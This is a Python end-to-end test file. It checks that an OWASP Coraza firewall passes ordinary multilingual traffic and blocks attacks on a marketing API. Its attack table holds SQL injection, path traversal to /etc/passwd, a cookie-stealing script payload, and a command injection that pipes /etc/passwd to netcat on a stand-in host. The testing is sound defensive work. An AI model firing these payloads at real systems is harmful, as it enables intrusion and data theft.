"""Behind a web application firewall: what the system does for its people passes, what an attacker tries does not.

The firewall is a real one, OWASP Coraza with the Core Rule Set at paranoia level 1 and the rules of
deploy/waf/before.conf. The main job is played once more, every call of it through the firewall.
"""

import json
import re
from collections.abc import Iterator
from http.client import HTTPConnection
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import httpx
import pytest

from deploy.local.children import Running, free_ports
from deploy.local.demo.base import write_base
from deploy.local.story.__main__ import SEED, STEPS
from deploy.local.story.letter import SUBJECT
from deploy.local.story.telling import Telling, begin
from deploy.local.system import System
from deploy.waf import firewall
from tests.e2e.test_story import ROWS

pytestmark = pytest.mark.timeout(900)

_REFUSED = re.compile(r"rule (\d+), severity \w+: (?!Inbound Anomaly Score Exceeded)")
_ONE_CLICK = re.compile(r"<(https?://[^>]+/u/[^>]+)>")

# As people write: quotes, signs and words that rules look for, in the places where the product takes free text.
HONEST = (
    "О'Брайен",
    "ООО «Рога & копыта», 50% скидки; select * from любви",
    "Приём в 10:00 -- не опаздывать! (см. файл /etc/план.txt)",
    "Union of doctors & friends: drop in whenever you like",
)
ATTACKS = {
    "SQL in a query": ("/v1/profiles", {"page_token": "1' UNION SELECT login, password FROM users--"}),
    "a way out of the folder": ("/assets/../../../../etc/passwd", {}),
    "a file of the system": ("/v1/imports", {"page_token": "../../../../etc/passwd"}),
    "a script": ("/v1/segments", {"page_token": "<script>alert(document.cookie)</script>"}),
    "a command": ("/v1/segments", {"page_token": "; cat /etc/passwd | nc 10.0.0.1 99"}),
}


@pytest.fixture(scope="module")
def waf(system: System, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    running = firewall.start(tmp_path_factory.mktemp("waf"), free_ports(1)[0], system.gateway())
    try:
        yield running.wait(60)
    finally:
        running.stop()


@pytest.fixture(scope="module")
def behind(system: System, waf: Running) -> Telling:
    """Give the callers of the story, each of whom meets the firewall first."""
    files = system.directory / "demo"
    write_base(files, SEED, ROWS)
    known = json.loads(system.told.read_text(encoding="utf-8"))
    return begin({**known, "gateway": waf.address, "public_url": known["gateway"]}, files)


def rules_in(log: Path) -> list[str]:
    """Give the numbers of rules that took something for an attack."""
    return _REFUSED.findall(log.read_text(encoding="utf-8"))


def test_the_main_job_is_done_through_a_firewall(behind: Telling, waf: Running) -> None:
    for name, step in STEPS:
        behind.tell(f"behind a firewall: {name}")
        step(behind)

    assert behind.told["precision"] == 1.0
    assert behind.told["letters"] > 0
    assert rules_in(waf.log) == []


def test_readers_links_pass(behind: Telling, waf: Running) -> None:
    opened = behind.mailbox.read(behind.mailbox.letters(text=SUBJECT)[-1]["id"])
    html = opened["html"].replace("&amp;", "&")
    with httpx.Client(base_url=waf.address, timeout=30, headers={"User-Agent": "Mozilla/5.0"}) as reader:

        def door(kind: str) -> str:
            found = re.search(rf'(?:src|href)="{re.escape(behind.door)}(/{kind}/[^"]+)"', html)
            assert found, kind
            return found[1]

        answers = [reader.get(door(kind)).status_code for kind in ("o", "c", "p", "v", "u")]
        shown = re.findall(r'name="shown" value="([^"]+)"', reader.get(door("p")).text)
        chosen = reader.post(door("p"), data={"shown": shown, "on": shown})
        one_click = _ONE_CLICK.search(next(value for name, value in opened["headers"] if name == "List-Unsubscribe"))
        assert one_click
        left = reader.post(one_click[1].removeprefix(behind.door), data={"List-Unsubscribe": "One-Click"})

    assert answers == [200, 302, 200, 200, 200]
    assert (chosen.status_code, left.status_code) == (303, 200)
    assert rules_in(waf.log) == []


def test_words_letters_changes_and_streams_pass(behind: Telling, waf: Running) -> None:
    api = behind.marketing
    for words in HONEST:
        api.post("/v1/profiles:search", {"text": words, "page_size": 5})
    segment = api.post("/v1/segments", {"name": HONEST[1], "kind": "live", "rule": {"all": [{"status": "active"}]}})
    blocks = [{"kind": "text", "text": text} for text in HONEST]
    blocks.append({"kind": "button", "text": "Записаться", "address": "https://clinic.example/a?b=1&c={{ city }}"})
    blocks.append({"kind": "footer", "text": '<b>Клиника</b> <a href="https://clinic.example">на карте</a>'})
    draft = {"subject": HONEST[2], "language": "ru", "blocks": blocks}
    letter = api.post("/v1/templates", {"name": HONEST[0], "channel": "email", "draft": draft})
    statuses = _changes(behind, segment, letter)
    [operation] = api.get("/v1/operations", page_size=1)["items"]
    events = _raw(behind, "GET", f"/v1/operations/{operation['id']}/events")

    assert statuses == [200, 200, 200]
    assert "event: done" in events.text
    assert events.headers["content-type"].startswith("text/event-stream")
    assert rules_in(waf.log) == []


def _changes(behind: Telling, segment: dict[str, str], letter: dict[str, str]) -> list[int]:
    """Change things as browsers do: by PATCH with an etag, and by DELETE."""
    named = {"name": 'Переименован: "кавычки" & апостроф\''}
    view = behind.marketing.post("/v1/views", {"screen": "clients", "name": HONEST[0], "state": {"text": HONEST[1]}})
    changed = [
        _raw(behind, "PATCH", f"/v1/segments/{segment['id']}", named, {"If-Match": f'"{segment["etag"]}"'}),
        _raw(behind, "PATCH", f"/v1/templates/{letter['id']}", named, {"If-Match": f'"{letter["etag"]}"'}),
        _raw(behind, "DELETE", f"/v1/views/{view['id']}"),
    ]
    return [200 if answer.is_success else answer.status_code for answer in changed]


def _raw(
    behind: Telling, method: str, path: str, body: object = None, headers: dict[str, str] | None = None
) -> httpx.Response:
    return behind.marketing.answer(method, path, **({"json": body} if body else {}), headers=headers or {})


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_does_not_reach_the_gateway(waf: Running, name: str) -> None:
    path, query = ATTACKS[name]
    before = len(rules_in(waf.log))

    # Not by a client that would tidy the path up.
    place = urlsplit(waf.address)
    connection = HTTPConnection(place.hostname or "", place.port, timeout=30)
    connection.request("GET", f"{path}?{urlencode(query)}")
    answer = connection.getresponse()
    said = answer.read().decode()
    connection.close()

    assert answer.status == 403
    assert "code" not in said, "the gateway says why it refuses; this was not the gateway"
    assert len(rules_in(waf.log)) > before


def test_an_attack_in_a_body_does_not_pass_by_what_letters_may_say(behind: Telling, waf: Running) -> None:
    attack = "1' UNION SELECT login, password FROM users-- <script>alert(document.cookie)</script>"
    before = len(rules_in(waf.log))

    answers = [
        _raw(behind, "POST", "/v1/profiles:search", {"text": attack}),
        _raw(behind, "POST", "/v1/segments", {"name": attack, "kind": "live", "rule": {"status": "active"}}),
        _raw(behind, "POST", "/v1/templates", {"name": attack, "channel": "email"}),
    ]

    assert [answer.status_code for answer in answers] == [403, 403, 403]
    assert len(rules_in(waf.log)) > before
